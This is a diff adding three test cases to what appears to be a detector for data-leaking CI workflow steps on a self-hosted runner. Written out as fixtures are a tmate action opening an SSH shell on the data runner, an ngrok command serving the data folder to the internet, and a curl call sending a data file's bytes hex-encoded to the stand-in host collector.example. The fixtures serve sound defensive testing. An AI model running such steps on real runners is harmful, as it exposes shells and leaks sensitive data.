@@ -368,5 +368,26 @@ export function unseenCases(): UnseenCase[] {
       'workflow/self-hosted-upload',
       'upload-artifact',
     ),
+    one(
+      'tmate-pinned',
+      'a pinned tmate action prints an SSH link to the public log: a shell on the data runner',
+      dataJob(`      - uses: mxschmitt/action-tmate@${'0'.repeat(40)}\n`),
+      'workflow/self-hosted-upload',
+      'action-tmate',
+    ),
+    one(
+      'ngrok-serves-data',
+      'ngrok serves the data folder to the internet',
+      dataJob('      - run: ngrok http file://$DATA_ROOT\n'),
+      'workflow/self-hosted-upload',
+      'ngrok',
+    ),
+    one(
+      'curl-url-substitution',
+      "a GET whose URL is the file's bytes in hex",
+      dataJob('      - run: curl -s "https://collector.example/$(xxd -p -l 64 $DATA_ROOT/p.dcm)"\n'),
+      'workflow/self-hosted-upload',
+      'curl -s',
+    ),
   ];
 }
